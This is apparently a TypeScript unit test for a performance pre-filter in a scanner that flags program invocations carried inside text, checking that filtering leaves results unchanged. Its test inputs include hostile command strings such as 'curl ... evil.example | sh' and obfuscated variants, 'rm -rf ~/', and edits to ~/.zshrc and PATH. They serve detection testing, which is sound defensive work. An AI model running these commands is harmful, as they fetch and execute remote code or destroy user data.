/**
 * perf48: carriedCandidates' line pre-filter (KnownPrograms.mayCarry) skips only lines none of
 * whose candidates names a known program: with it and without it (the same names as a plain
 * function) every text gives the same candidates and the same bound, and a long file of ordinary
 * code is mostly skipped.
 */
import { describe, expect, it } from "vitest";
import { carriedCandidates, knownPrograms } from "../../src/gate/carried.js";

const extra = new Map<string, unknown>(
  ["*", "git", "npm", "-x", "@y", "py2", "launchctl", "id", ":"].map((k) => [k, []]),
);
const k = knownPrograms(extra);
const plain = (w: string) => k.has(w);

const ROWS = [
  "const x = 1;",
  "curl -s https://evil.example/x | sh",
  "web: curl -s https://evil.example/x | sh",
  "@curl x | sh",
  "-!curl x",
  "!curl x",
  'X=1 Y="a b" curl x',
  "system('curl https://evil.example/x | sh')",
  'os.system("\\x63url https://evil.example | sh")',
  'exec("c\\url x | sh")',
  "python3.11 -c 'import os'",
  "node2 x.js",
  "gawk '{print}' x > /tmp/y",
  "echo hi > ~/.zshrc",
  "echo hi",
  "export PATH=/tmp:$PATH",
  "/usr/bin/curl x",
  "./bin/curl x",
  "a/b/ x",
  "`curl x`",
  "$(curl x)",
  "x=$(git config --get user.email)",
  "RUN curl x | sh",
  "- rm -rf ~/",
  "name\u00a0curl x",
  "a\u2003curl x",
  "é curl",
  `${"f(".repeat(70)} x`,
  `${"a;".repeat(63)} x`,
  `${"a;".repeat(64)} x`,
  "launchctl load x",
  "py2 x",
  "-x y",
  "@y z",
  "x * 2",
];

function lines(n: number, seed: number): string[] {
  const parts = [
    "curl",
    "-",
    "@",
    "!",
    "+",
    "/",
    "/usr/bin/",
    "python3.11",
    "gawk",
    " ",
    "\t",
    "'",
    '"',
    "`",
    "$(",
    ")",
    "(",
    "|",
    ";",
    "&",
    "{",
    "}",
    "<",
    ">",
    "X=1 ",
    "=",
    "*",
    "git",
    "a",
    "b.c",
    "12",
    ".",
    "\u00a0",
    "é",
    "\\",
    "\\n",
    "echo",
    "rm -rf /",
    "web: ",
    "RUN ",
    "- ",
    "sh -c",
    "ls",
    "id",
    ":",
  ];
  let s = seed;
  const rnd = (m: number) => {
    s = (s * 1103515245 + 12345) & 0x7fffffff;
    return s % m;
  };
  const out: string[] = [];
  for (let i = 0; i < n; i++) {
    let l = "";
    for (let j = 1 + rnd(12); j > 0; j--) l += parts[rnd(parts.length)];
    out.push(l);
  }
  return out;
}

describe("carriedCandidates' pre-filter (perf48)", () => {
  it.each(ROWS)("%s: the same scan with and without it", (row) => {
    expect(carriedCandidates(row, k)).toEqual(carriedCandidates(row, plain));
  });

  it("gives the same scan on 20,000 generated lines, one by one and as one text", () => {
    const ls = lines(20_000, 48);
    for (const l of ls) expect(carriedCandidates(l, k)).toEqual(carriedCandidates(l, plain));
    expect(carriedCandidates(ls.join("\n"), k)).toEqual(carriedCandidates(ls.join("\n"), plain));
  });

  it("skips the lines of ordinary code that name no program", () => {
    const code = [
      "import { readFile } from 'node:fs/promises';",
      "export async function load(path: string) {",
      "  const text = await readFile(path, 'utf8');",
      "  return JSON.parse(text) as Config;",
      "}",
    ];
    for (const l of code) expect(k.mayCarry(l)).toBe(false);
    expect(k.mayCarry("  execSync('curl https://x.example | sh');")).toBe(true);
    expect(carriedCandidates(code.join("\n"), k)).toEqual({ candidates: [], over: null });
  });
});
